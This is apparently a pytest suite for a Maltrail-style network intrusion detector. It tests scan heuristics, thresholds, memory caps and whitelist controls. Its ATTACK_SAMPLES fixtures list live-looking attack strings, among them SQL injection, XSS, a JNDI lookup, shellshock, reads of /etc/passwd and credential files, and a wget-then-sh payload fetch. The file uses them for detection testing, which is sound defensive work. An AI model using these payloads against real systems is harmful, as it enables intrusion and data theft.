"""The heuristics and the controls, on the Python reference path and through the real engine.

- the sliding window every scan heuristic counts with: expiry, eviction, caps and their counters;
- each heuristic's switch mutes it, and its threshold moves it;
- every pattern family fires on its samples and passes the request prefilter (the prefilters'
  superset properties run on both backends in tests/test_heuristics_fast.py);
- bounded state: flooding each map past its cap plateaus memory, counts evictions, and exact trail
  matching still works;
- the controls through `maltrail-engine replay`: run-time whitelist, per-host whitelist, ignore
  rules and regex drop events and count them; a bad control file is a clear error.
"""

from __future__ import annotations

import dataclasses
import json
import subprocess
import tracemalloc
from pathlib import Path

import pytest
from hypothesis import given, strategies as st

from engine.sources import synthetic as g
from matchers import Artifact, TrailMatchers
from tests.test_corpus import console_script
from trailsdb.compile import build
from workers.batch import FrameBatchBuilder
from workers.heuristics import HeuristicSettings
from workers.heuristics import http as hhttp
from workers.heuristics.window import DistinctWindow
from workers.http import decoded_form, decoded_target
from workers.pipeline import Worker

CORPUS = Path(__file__).resolve().parent / "corpus"
T0_US = 1_772_323_200 * 1_000_000


@pytest.fixture(scope="module")
def matchers(tmp_path_factory):
    path = tmp_path_factory.mktemp("trails") / "trails.mtdb"
    build([str(CORPUS / "trails.csv")], str(path))
    return TrailMatchers.load(Artifact.open(str(path)))


def run(matchers, frames, settings=None, fast=False, batch=256):
    """(ts_s, frame) pairs through a Worker; returns (events, worker)."""
    worker = Worker(matchers, "h", heuristics=settings, fast=fast)
    out = []
    for start in range(0, len(frames), batch):
        b = FrameBatchBuilder()
        for ts_s, frame in frames[start:start + batch]:
            b.add(frame, (T0_US + int(ts_s * 1_000_000)) * 1000, 1)
        worker.process(b.take(), out)
    out += worker.flush()
    return out, worker


def infos(events):
    return sorted({e.info for e in events})


# --- the window ----------------------------------------------------------------------------------

def test_window_counts_distinct_values_within_the_window():
    w = DistinctWindow(threshold=3, window_us=10, max_keys=8)
    assert [w.observe("k", v, t) for v, t in [(1, 0), (2, 1), (2, 2), (3, 3)]] == [False] * 4
    assert w.observe("k", 4, 4)        # 4 distinct values within 10
    assert w.observe("k", 1, 5)        # a value seen again moves its time: still 4 within the window
    assert not w.observe("k", 5, 13)   # 2 (last 2) and 3 (3) left the window: 1, 4, 5 remain
    assert not w.observe("k", 6, 14)   # 4 (seen at 4) leaves too: 1, 5, 6
    assert w.observe("k", 7, 14)       # 1, 5, 6, 7


def test_window_evicts_the_least_recent_value_and_the_least_recent_key():
    w = DistinctWindow(threshold=2, window_us=100, max_keys=2)
    for v in range(5):
        w.observe("a", v, v)
    assert len(w._keys["a"]) == 3      # never more than threshold + 1 values per key
    w.observe("b", 0, 10)
    w.observe("c", 0, 11)              # a third key: "a" (least recently used) goes
    assert set(w._keys) == {"b", "c"} and w.evicted_keys == 1


@given(st.lists(st.tuples(st.integers(0, 3), st.integers(0, 6), st.integers(0, 40)), max_size=200))
def test_window_agrees_with_a_brute_force_count(seq):
    """With room for every key, the verdict is "more than threshold distinct values whose latest
    sighting is within the window" over everything seen so far (time never going backwards)."""
    threshold, window = 2, 10
    w = DistinctWindow(threshold, window, max_keys=16)
    seen = {}
    t = 0
    for key, value, step in seq:
        t += step % 7
        seen.setdefault(key, {})[value] = t
        expect = sum(1 for ts in seen[key].values() if ts > t - window) > threshold
        assert w.observe(key, value, t) == expect


# --- switches and thresholds ---------------------------------------------------------------------

def _syn_scan(ports=12, step_s=1.0):
    return [(i * step_s, g.tcp_frame("203.0.113.9", "198.18.0.7", 40000 + i, 1000 + i, g.TCP_SYN)) for i in range(ports)]


def _nx_flood(n=21):
    return [(i, g.udp_frame("10.0.0.53", "10.0.0.1", 53, 43000 + i, g.dns_response("n%d.flood.org" % i, rcode=3)))
            for i in range(n)]


def _attack():
    return [(0, g.tcp_frame("10.0.0.1", "198.18.1.1", 46000, 80, g.TCP_PSH | g.TCP_ACK,
                            g.http_request("GET", "/v?f=../../../../etc/passwd", "site.example", "sqlmap/1.7")))]


@pytest.mark.parametrize("switch, frames, info", [
    ("port_scan", _syn_scan(), "potential port scanning"),
    ("nxdomain", _nx_flood(), "excessive no such domain (suspicious)"),
    ("http_request", _attack(), "potential directory traversal (suspicious)"),
    ("user_agent", _attack(), "user agent (suspicious)"),
])
def test_each_switch_mutes_its_heuristic(matchers, switch, frames, info):
    on, _ = run(matchers, frames)
    assert info in infos(on)
    off, _ = run(matchers, frames, dataclasses.replace(HeuristicSettings(), **{switch: False}))
    assert info not in infos(off)
    none, _ = run(matchers, frames, HeuristicSettings(enabled=False))
    assert not [e for e in none if e.reference == "(heuristic)"]


def test_missing_host_fires_when_switched_on(matchers):
    frames = [(0, g.tcp_frame("10.0.0.1", "198.18.5.1", 48100, 80, g.TCP_PSH | g.TCP_ACK,
                              b"GET /cfg.bin HTTP/1.0\r\nUser-Agent: x\r\n\r\n"))]
    assert not run(matchers, frames)[0]
    for fast in (False, True):
        events, _ = run(matchers, frames, HeuristicSettings(missing_host=True), fast=fast)
        assert [(e.type, e.trail, e.info) for e in events] == [
            ("HTTP", "198.18.5.1/cfg.bin", "missing host header (suspicious)")]


def test_thresholds_and_windows_move(matchers):
    assert not run(matchers, _syn_scan(12), HeuristicSettings(port_scan_threshold=12))[0]
    assert run(matchers, _syn_scan(12), HeuristicSettings(port_scan_threshold=11))[0]
    # 12 ports, 3 s apart: 33 s in all; a 30 s window never holds 11 of them, a 40 s one does
    assert not run(matchers, _syn_scan(12, 3.0))[0]
    assert run(matchers, _syn_scan(12, 3.0), HeuristicSettings(scan_window_s=40))[0]
    assert not run(matchers, _nx_flood(21), HeuristicSettings(nxdomain_threshold=21))[0]


# --- the C prefilters never hide what the patterns judge ------------------------------------------

ATTACK_SAMPLES = {
    "potential sql injection": ["/i?id=1 union all select a,b from t", "/i?id=1 UNION SELECT 1", "/l?u=' or 'a'='a",
                                "/i?id=sleep(5)", "/i?x=@@version", "/i?id=1;waitfor delay '0:0:5'",
                                "/i?q=information_schema.tables", "/i?id=1 and 1=1",
                                # form-encoded: '+' is a space in the query
                                "/i?id=1+union+select+1,2,3--", "/n?id=7+and+1%3D1%23", "/p?id=1'+or+'1'='1"],
    "potential xml injection": ["/x?q=/text()='x'"],
    "potential php injection": ["/i?c=<?php echo 1;", "/i?f=php://input"],
    "potential ldap injection": ["/l?u=*)(|(uid=*"],
    "potential xss injection": ["/s?q=<script>x</script>", "/s?u=javascript:x", "/s?q=<img src=x onerror=y>",
                                "/s?q=alert(1)", "/s?q=document.cookie"],
    "potential xxe injection": ["/x?d=<!ENTITY a SYSTEM 'file:///etc/passwd'>"],
    "potential data leakage": ["/c?imei=356938035643809", "/c?mac=00:11:22:33:44:55"],
    "config file access": ["/.htaccess", "/wp-config.php", "/.env", "/.git/config", "/.aws/credentials"],
    "potential remote code execution": ["/c?x=;cat /etc/passwd", "/c?x=${jndi:ldap://a/b}", "/c?x=cmd.exe /c dir",
                                        "/c?x=wget http:/1.2.3.4/a", "/c?x=() { :; }; id", "/c?x=a|id",
                                        "/c?x=$_GET[a]", "/c?x=chmod 777 f", "/c?x=a>/dev/null",
                                        "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir", "/c/winnt/system32/cmd.exe",
                                        "/t.cgi?cmd=cat+/etc/passwd", "/x?cmd=ls+/", "/x?ip=ping+-c+3+h",
                                        "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/jaws;sh+/tmp/jaws"],
    "potential directory traversal": ["/d?f=../../../etc/x", "/d?f=/etc/shadow", "/d?f=..\\..\\..\\boot.ini",
                                      "/d?f=c:/windows/system32/x"],
    "potential web shell": ["/up/c99.php", "/x/shell.aspx?cmd=whoami"],
    "potential web scan": ["/w00tw00t.at.x", "/acunetix-wvs-test", "/nikto-test"],
    "potential dns changer": ["/apply.cgi?dns1=1.2.3.4"],
}


@pytest.mark.parametrize("family", sorted(ATTACK_SAMPLES))
def test_every_pattern_family_fires_and_passes_the_prefilter(family):
    for sample in ATTACK_SAMPLES[family]:
        assert hhttp.request_attack(*decoded_target(sample)) == family, sample
        assert hhttp.needs_request_check(sample, None), sample
        # the same text as a form body: '+' is a space there too
        body = sample.split("?", 1)[-1]
        if hhttp.request_attack(*decoded_form(body)):
            assert hhttp.needs_request_check("/", body), body


# Maltrail's SUSPICIOUS_HTTP_REQUEST_REGEXES, in its order (core/settings.py; "potential ssti
# injection" is Maltrail's, "potential web shell" ours): a request several families match takes the
# label of the first.
MALTRAIL_ORDER = ("potential sql injection", "potential xml injection", "potential php injection",
                  "potential ldap injection", "potential xss injection", "potential xxe injection",
                  "potential ssti injection", "potential data leakage", "config file access",
                  "potential remote code execution", "potential directory traversal", "potential web scan",
                  "potential dns changer")


def test_the_families_are_tried_in_maltrails_order():
    ours = [desc for desc, _ in hhttp.REQUEST_PATTERNS if desc != "potential web shell"]
    assert ours == [desc for desc in MALTRAIL_ORDER if desc != "potential ssti injection"]


@pytest.mark.parametrize("target, label", [
    # the IIS traversal worms: a traversal that runs cmd.exe is a command first (Maltrail says so)
    ("/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir", "potential remote code execution"),
    ("/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir", "potential remote code execution"),
    ("/cgi-bin/test.cgi?cmd=cat+/etc/passwd", "potential remote code execution"),
    ("/x?a=;cat+/etc/passwd", "potential remote code execution"),
    ("/a?file=/etc/passwd&x=1+union+select+2", "potential sql injection"),
    ("/s?q=%3Cscript%3Ealert(1)%3C/script%3E&file=../../../etc/passwd", "potential xss injection"),
    ("/w?f=../../../../wp-config.php", "config file access"),
    # Maltrail says "potential ssti injection" (its ${...} pattern comes first); a JNDI lookup runs
    # code, so ours is remote code execution (COMPATIBILITY.md)
    ("/hudson?x=${jndi:ldap://198.51.100.1/a}&f=../../../etc/passwd", "potential remote code execution"),
])
def test_a_request_several_families_match_gets_the_first_familys_label(target, label):
    texts = decoded_target(target)
    matching = [desc for desc, pattern in hhttp._REQUEST if any(pattern.search(t) for t in texts)]
    assert len(matching) > 1 and matching[0] == label, matching
    assert hhttp.request_attack(*texts) == label


_ALPHABET = st.sampled_from(list("abcdefghijklmnopqrstuvwxyz0123456789/?=&.%;|`$'\"<>(){}[]*:!@#\\ \t\r\n-_+,")
                            + ["select", "union", " from ", "../", "etc/passwd", "<script", "alert(", "cmd", "wget ",
                               "%2e", "%20", "%27", "%3c", "php", "jndi", "system32", ".ht", "sleep(", "or 1=1",
                               "+union+select+", "and+1%3d1", "cmd.exe?/c+", "cat+/"])


# --- bounded state -------------------------------------------------------------------------------

def _heap_after(matchers, frames, settings):
    tracemalloc.start()
    _, worker = run(matchers, frames, settings, batch=1024)
    current, _ = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return current, worker


def _scan_flood(n):
    return [(i * 0.0001, g.tcp_frame("10.%d.%d.%d" % (1 + i // 65536 % 200, i // 256 % 256, i % 256), "198.18.0.7",
                                     40000, 1000 + i % 7, g.TCP_SYN)) for i in range(n)]


def _dns_flood(n):
    return [(i * 0.0001, g.udp_frame("10.0.0.1", "10.0.0.53", 40000 + i % 20000, 53,
                                     g.dns_query("s%d.fd%d.org" % (i, i % 5000)))) for i in range(n)]


def _nx_name_flood(n):
    return [(i * 0.0001, g.udp_frame("10.0.0.53", "10.0.0.1", 53, 40000 + i % 20000,
                                     g.dns_response("x%d.nx%d.org" % (i, i), rcode=3))) for i in range(n)]


def _udp_flood(n):
    return [(i * 0.0001, g.udp_frame("10.%d.%d.%d" % (1 + i // 65536 % 200, i // 256 % 256, i % 256), "198.18.0.7",
                                     40000, 1000 + i % 7, b"probe")) for i in range(n)]


def _infection_flood(n):
    return [(i * 0.0001, g.tcp_frame("10.%d.%d.%d" % (1 + i // 65536 % 200, i // 256 % 256, i % 256),
                                     "198.18.%d.%d" % (i // 256 % 256, i % 256), 40000, 445, g.TCP_SYN)) for i in range(n)]


def _web_flood(n):
    return [(i * 0.0001, g.tcp_frame("10.%d.%d.%d" % (1 + i // 65536 % 200, i // 256 % 256, i % 256), "198.18.0.7",
                                     40000, 80, g.TCP_PSH | g.TCP_ACK,
                                     g.http_request("GET", "/p%d/x" % (i % 5), "w.example"))) for i in range(n)]


@pytest.mark.parametrize("flood, counter, caps", [
    (_scan_flood, "port scan keys evicted", {"max_scan_keys": 256}),
    (_udp_flood, "udp scan keys evicted", {"max_scan_keys": 256}),
    (_infection_flood, "infection scan keys evicted", {"max_scan_keys": 256}),
    (_web_flood, "web scan keys evicted", {"max_scan_keys": 256}),
    (_dns_flood, "dns exhaustion domains evicted", {"max_dns_domains": 256, "max_dns_subdomains": 100000}),
    (_dns_flood, "dns exhaustion domains evicted", {"max_dns_domains": 100000, "max_dns_subdomains": 256}),
    (_nx_name_flood, "nxdomain counters evicted", {"max_nxdomain_names": 256}),
])
def test_a_flood_past_the_cap_plateaus_and_trails_still_fire(matchers, flood, counter, caps):
    settings = HeuristicSettings(**caps)
    small, _ = _heap_after(matchers, flood(4000), settings)
    large, worker = _heap_after(matchers, flood(16000), settings)
    assert worker.stats()["saturation"][counter] > 0
    assert large < small * 1.5 + 200_000, (small, large)  # four times the traffic, not four times the state
    # exact trail matching is untouched by the flood around it
    frames = flood(3000) + [(1, g.udp_frame("10.0.0.1", "10.0.0.53", 40999, 53, g.dns_query("evil-exact.com"))),
                            (1, g.tcp_frame("10.0.0.1", "203.0.113.66", 40998, 443, g.TCP_SYN))]
    events, _ = run(matchers, frames, settings)
    trails = {e.trail for e in events if e.reference == "(corpus)"}
    assert {"evil-exact.com", "203.0.113.66"} <= trails


# --- controls through the engine ----------------------------------------------------------------------

def _replay(tmp_path, pcap, conf_lines, *extra):
    conf = tmp_path / "maltrail.toml"
    conf.write_text("\n".join(conf_lines) + "\n")
    log = tmp_path / "log"
    stats = tmp_path / "stats.json"
    run_ = subprocess.run([console_script(), "replay", "-c", str(conf), "--trails", str(CORPUS / "trails.csv"),
                           "--log-dir", str(log), "--stats-json", str(stats), *extra, str(pcap)],
                          capture_output=True, text=True, timeout=120)
    if run_.returncode:
        return run_, None, None
    tail = subprocess.run([console_script(), "tail", "--log-dir", str(log), "--format", "json"],
                          capture_output=True, text=True, timeout=60)
    events = [json.loads(line) for line in tail.stdout.splitlines()]
    return run_, events, json.loads(stats.read_text())["counters"]


def _controls_pcap(tmp_path):
    frames = [
        g.tcp_frame("10.0.0.1", "203.0.113.66", 40000, 443, g.TCP_SYN),        # c2 trail from host .1
        g.tcp_frame("10.0.0.2", "203.0.113.66", 40001, 443, g.TCP_SYN),        # the same trail from host .2
        g.udp_frame("10.0.0.3", "10.0.0.53", 40002, 53, g.dns_query("evil-exact.com")),
        g.udp_frame("10.0.0.4", "10.0.0.53", 40003, 53, g.dns_query("www.evil-parent.net")),
        g.tcp_frame("10.0.0.5", "198.18.1.1", 40004, 80, g.TCP_PSH | g.TCP_ACK,
                    g.http_request("GET", "/v?f=../../../../etc/passwd", "site.example")),
    ]
    path = tmp_path / "controls.pcap"
    with g.PcapWriter(str(path)) as w:
        for i, f in enumerate(frames):
            w.write(T0_US * 1000 + i * 1_000_000_000, f)
    return path


def test_controls_drop_and_count_events(tmp_path):
    pcap = _controls_pcap(tmp_path)
    (tmp_path / "a").mkdir()
    _, everything, _ = _replay(tmp_path / "a", pcap, ["[sensor]"])
    assert {(e["src_ip"], e["trail"]) for e in everything} == {
        ("10.0.0.1", "203.0.113.66"), ("10.0.0.2", "203.0.113.66"), ("10.0.0.3", "evil-exact.com"),
        ("10.0.0.4", "(www).evil-parent.net"), ("10.0.0.5", "site.example(/v?f=../../../../etc/passwd)")}

    d = tmp_path / "b"
    d.mkdir()
    (d / "whitelist.txt").write_text("# run-time whitelist\nevil-parent.net\n")
    (d / "hosts.txt").write_text("10.0.0.1 203.0.113.66\n10.0.0.5/32 potential directory traversal\n")
    (d / "ignore.txt").write_text("10.0.0.3 * * 53\n")
    run_, events, counters = _replay(d, pcap, [
        "[all]", 'whitelist_file = "%s"' % (d / "whitelist.txt"),
        "[sensor]", 'host_whitelist_file = "%s"' % (d / "hosts.txt"), 'ignore_file = "%s"' % (d / "ignore.txt")])
    assert run_.returncode == 0, run_.stderr
    # only host .2's connection to the c2 remains: the same trail from host .1 is silenced for .1 alone
    assert {(e["src_ip"], e["trail"]) for e in events} == {("10.0.0.2", "203.0.113.66")}
    assert counters["dropped"] == {"whitelisted": 1, "host-whitelisted": 2, "ignored": 1}
    assert "events dropped by controls: host-whitelisted 2, ignored 1, whitelisted 1" in run_.stderr

    d = tmp_path / "c"
    d.mkdir()
    run_, events, counters = _replay(d, pcap, ["[sensor]", "ignore_regex = 'evil-\\w+\\.(com|net) '"])
    assert run_.returncode == 0, run_.stderr
    assert {e["src_ip"] for e in events} == {"10.0.0.1", "10.0.0.2", "10.0.0.5"}
    assert counters["dropped"] == {"ignored": 2}


@pytest.mark.parametrize("name, text, needle", [
    ("hosts.txt", "10.0.0.1\n", 'hosts.txt:1: expected "HOST TRAIL"'),
    ("hosts.txt", "# fine\nnot-an-ip evil.com\n", "hosts.txt:2: HOST 'not-an-ip' is not an IP address or CIDR range"),
    ("ignore.txt", "1.2.3.4 * *\n", "ignore.txt:1: expected 4 fields"),
    ("ignore.txt", "* 99999 * *\n", "ignore.txt:1: SRC_PORT '99999' is out of range"),
    ("ignore.txt", "* * * http\n", "ignore.txt:1: DST_PORT 'http' is not a port"),
])
def test_a_bad_control_file_names_the_line_and_the_fix(tmp_path, name, text, needle):
    (tmp_path / name).write_text(text)
    key = "host_whitelist_file" if name == "hosts.txt" else "ignore_file"
    run_, _, _ = _replay(tmp_path, _controls_pcap(tmp_path), ["[sensor]", '%s = "%s"' % (key, tmp_path / name)])
    assert run_.returncode == 2
    assert needle in run_.stderr, run_.stderr


def test_a_flood_of_distinct_events_closes_noise_control_groups_early_and_loses_none(matchers):
    """Every source hits the listed c2 address: one open group per source, capped."""
    frames = [(i * 0.0001, g.tcp_frame("10.%d.%d.%d" % (1 + i // 65536, i // 256 % 256, i % 256), "203.0.113.66",
                                       40000, 443, g.TCP_SYN)) for i in range(5000)]
    frames += frames  # every source twice: a repeat for each group
    worker = Worker(matchers, "h", fast=False)
    worker.condenser.max_entries = 512
    out = []
    for start in range(0, len(frames), 1024):
        b = FrameBatchBuilder()
        for ts_s, frame in frames[start:start + 1024]:
            b.add(frame, (T0_US + int(ts_s * 1_000_000)) * 1000, 1)
        worker.process(b.take(), out)
        assert len(worker.condenser) <= 512
    out += worker.flush()
    assert worker.stats()["saturation"]["noise control groups closed early"] > 0
    assert sum(e.count for e in out) == len(frames)  # closed early, never dropped
